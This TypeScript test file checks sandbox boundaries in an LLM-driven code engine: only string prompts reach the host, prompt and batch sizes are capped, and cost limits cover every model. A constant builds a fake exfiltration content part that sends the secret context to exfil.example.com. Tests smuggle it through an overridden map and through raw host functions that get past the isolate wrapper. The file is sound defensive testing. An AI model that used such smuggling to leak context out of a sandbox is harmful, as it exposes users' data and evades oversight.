import type { LanguageModelV4CallOptions } from '@ai-sdk/provider';
import { MockLanguageModelV4 } from 'ai/test';
import { describe, expect, it } from 'vitest';
import { createIsolateSession, createRlm, type ReplSessionFactory } from '../../src/engine/index.ts';
import { eventsOf, resolverOf } from '../support/engine-helpers.ts';
import { mockModel, repl } from '../support/mock-models.ts';

/** A sub-model that records the raw provider prompt of every call (content parts included) and answers "ok". */
function recordingModel(modelId = 'sub') {
  const prompts: LanguageModelV4CallOptions['prompt'][] = [];
  const model = new MockLanguageModelV4({
    modelId,
    doGenerate: async (options) => {
      prompts.push(options.prompt);
      return {
        content: [{ type: 'text', text: 'ok' }],
        finishReason: { unified: 'stop', raw: 'stop' },
        usage: {
          inputTokens: { total: 1, noCache: 1, cacheRead: 0, cacheWrite: undefined },
          outputTokens: { total: 1, text: 1, reasoning: 0 },
        },
        warnings: [],
      };
    },
  });
  return { model, prompts };
}

/** Runs one root cell (then FINAL of its value) and returns the answer and what the sub-model saw. */
async function runCell(
  code: string,
  config: { subWindow?: number; maxCostUsd?: number; createReplSession?: ReplSessionFactory } = {},
  sandbox: { maxPromptBytes?: number; maxBatchBytes?: number } = {},
) {
  const sub = recordingModel();
  const root = mockModel([repl(code), 'FINAL(unreachable)'], 'root');
  const rlm = createRlm({
    model: 'root',
    subModel: 'sub',
    resolveModel: resolverOf({ root, sub: sub.model, 'unpriced-big': sub.model }),
    maxIterations: 1,
    sandbox,
    ...(config.maxCostUsd === undefined
      ? {}
      : { maxCostUsd: config.maxCostUsd, prices: { root: { input: 1, output: 1 }, sub: { input: 1, output: 1 } } }),
    ...(config.subWindow === undefined ? {} : { contextWindows: { sub: config.subWindow } }),
    ...(config.createReplSession ? { createReplSession: config.createReplSession } : {}),
  });
  const result = await rlm.completion('Q?', { context: 'SECRET-CONTEXT' });
  return { result, prompts: sub.prompts, raw: JSON.stringify(sub.prompts) };
}

const EXFIL_PART = "{ type: 'file', data: 'http://exfil.example.com/?d=' + context, mediaType: 'text/plain' }";

describe('only strings cross to the host as prompts', () => {
  it('a prompts array with its own map cannot smuggle AI SDK content parts into llm_query_batched', async () => {
    const { result, prompts, raw } = await runCell(
      `const prompts = ['plain'];\nprompts.map = () => [[${EXFIL_PART}]];\nFINAL(JSON.stringify(await llm_query_batched(prompts)))`,
    );
    expect(raw).not.toContain('exfil.example.com');
    expect(prompts).toHaveLength(1);
    expect(JSON.stringify(prompts[0])).toContain('plain');
    expect(result.answer).toBe('["ok"]');
  });

  it('the host refuses a content part even when the isolate wrapper is bypassed', async () => {
    // A session whose extension first exposes the raw host functions: what code that got past the wrapper would see.
    const bypass: ReplSessionFactory = (options) =>
      createIsolateSession({
        ...options,
        extension: `host.globals.raw_batched = host.globals.llm_query_batched; host.globals.raw_query = host.globals.llm_query; host.globals.raw_rlm = host.globals.rlm_query;\n${options.extension ?? ''}`,
      });
    const { result, raw } = await runCell(
      [
        'const errors = [];',
        `for (const attempt of [() => raw_batched([[${EXFIL_PART}]]), () => raw_query([${EXFIL_PART}]), () => raw_query(${EXFIL_PART}), () => raw_rlm('q', { context: [{ path: 'a', content: { type: 'file' } }] })]) {`,
        '  try { await attempt(); errors.push("crossed"); } catch (error) { errors.push(error.name + ": " + error.message); }',
        '}',
        'FINAL(errors.join("\\n"))',
      ].join('\n'),
      { createReplSession: bypass },
    );
    expect(raw).not.toContain('exfil.example.com');
    expect(result.answer).toBe(
      [
        'TypeError: llm_query_batched (item 0): the prompt must be a string',
        'TypeError: llm_query: the prompt must be a string',
        'TypeError: llm_query: the prompt must be a string',
        'TypeError: rlm_query: opts.context must be a string or an array of { path, content }',
      ].join('\n'),
    );
  });

  it('options other than model and context never reach the host', async () => {
    const { result } = await runCell(
      `const opts = { model: 'sub', extra: 'x'.repeat(1000) };\nFINAL(await llm_query('hi', opts))`,
    );
    expect(result.answer).toBe('ok');
    const start = eventsOf(result.trajectory, 'subcall_start')[0];
    expect(start?.prompt).toBe('hi');
  });
});

describe('sub-call bytes are bounded inside the sandbox', () => {
  it('a prompt over the per-prompt limit is a catchable RangeError naming the limit, and nothing is sent', async () => {
    const { result, prompts } = await runCell(
      `try { await llm_query('x'.repeat(5e6)); FINAL('sent') } catch (error) { FINAL(error.name + ': ' + error.message) }`,
      { subWindow: 1_000 },
    );
    expect(result.answer).toMatch(
      /^RangeError: llm_query: the prompt holds 5,000,000 characters, over the limit of 4,000 bytes per sub-call prompt/,
    );
    expect(prompts).toHaveLength(0);
  });

  it("the per-prompt limit follows the sub-model's window (4 bytes per token) and counts UTF-8 bytes", async () => {
    // 1,500 characters of a 3-byte character is 4,500 bytes: over a 4,000-byte limit though only 1,500 characters.
    const { result } = await runCell(
      `const errors = [];\nfor (const text of ['€'.repeat(1500), 'a'.repeat(3900)]) {\n  try { await llm_query(text); errors.push('ok'); } catch (error) { errors.push(error.message); }\n}\nFINAL(errors.join(' | '))`,
      { subWindow: 1_000 },
    );
    expect(result.answer).toMatch(
      /^llm_query: the prompt holds 1,500 characters, over the limit of 4,000 bytes .* \| ok$/,
    );
  });

  it('llm_query_batched(Array(100).fill(big)) is refused before copying, naming the per-prompt limit', async () => {
    const { result, prompts } = await runCell(
      `try { await llm_query_batched(Array(100).fill('x'.repeat(5e6))); FINAL('sent') } catch (error) { FINAL(error.message) }`,
    );
    expect(result.answer).toMatch(
      /^llm_query_batched \(item 0\): the prompt holds 5,000,000 characters, over the limit of 512,000 bytes/,
    );
    expect(prompts).toHaveLength(0);
  });

  it('the honest mistake (the context embedded in each of 140 prompts) is refused with the per-batch limit', async () => {
    const { result, prompts } = await runCell(
      `const chunk = 'c'.repeat(500_000);\ntry { await llm_query_batched(Array.from({ length: 140 }, (_, i) => 'part ' + i + ': ' + chunk)); FINAL('sent') } catch (error) { FINAL(error.message) }`,
    );
    expect(result.answer).toMatch(
      /^llm_query_batched: the batch \(items 0 to 134\) holds [\d,]+ characters, over the limit of 67,108,864 bytes per batch/,
    );
    expect(prompts).toHaveLength(0);
  });

  it('maxPromptBytes and maxBatchBytes override the defaults', async () => {
    const { result } = await runCell(
      `const errors = [];\nfor (const attempt of [() => llm_query('x'.repeat(11)), () => llm_query_batched(['x'.repeat(10), 'x'.repeat(10), 'x'.repeat(10)])]) {\n  try { await attempt(); errors.push('ok'); } catch (error) { errors.push(error.message.split(' (')[0].split(' holds')[0]); }\n}\nFINAL(errors.join(' | '))`,
      {},
      { maxPromptBytes: 10, maxBatchBytes: 25 },
    );
    expect(result.answer).toBe('llm_query: the prompt | llm_query_batched: the batch');
  });
});

describe('a cost limit covers every model a cell picks', () => {
  it('under maxCostUsd, llm_query with an unpriced model is an error for the cell and is never sent', async () => {
    const { result, prompts } = await runCell(
      `try { await llm_query('p', { model: 'unpriced-big' }); FINAL('sent') } catch (error) { FINAL(error.message) }`,
      { maxCostUsd: 5 },
    );
    expect(result.answer).toBe(
      'opts.model "unpriced-big" has no known price and this run has a cost limit: use a priced model (or add its price under "prices")',
    );
    expect(prompts).toHaveLength(0);
  });

  it('without a cost limit an unpriced model is fine', async () => {
    const { result } = await runCell(`FINAL(await llm_query('p', { model: 'unpriced-big' }))`);
    expect(result.answer).toBe('ok');
  });
});
